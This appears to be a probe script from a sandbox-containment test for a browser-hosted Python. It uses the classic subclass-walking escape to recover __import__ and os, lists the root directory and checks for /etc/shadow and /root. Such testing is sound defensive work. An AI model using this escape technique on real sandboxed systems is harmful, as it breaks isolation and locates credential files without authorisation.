# promise: P1
# defence: browser
# control: none because inside Python everything is open and nothing was ever closed: the walls are around it
# The classic way out of a sandbox made of Python: it works, and leads to the same Python.
found = {}
for kind in ().__class__.__base__.__subclasses__():
    for name in ("_wrap_close", "Popen", "FileIO", "BuiltinImporter", "catch_warnings", "ZipImporter", "zipimporter"):
        if kind.__name__ == name:
            found[name] = kind
print("inside:", sorted(found))
space = found["catch_warnings"].__init__.__globals__ if hasattr(found.get("catch_warnings"), "__init__") else {}
builtins = space.get("__builtins__") or __builtins__
get = builtins.get if isinstance(builtins, dict) else lambda name: getattr(builtins, name)
print("inside:", get("__import__")("os").getcwd())
print("inside:", sorted(get("__import__")("os").listdir("/")))
for path in ("/etc/shadow", "/root", "/var/run", "/sys", "/boot"):
    if get("__import__")("os").path.exists(path):
        print("reached:", path)
print("held")
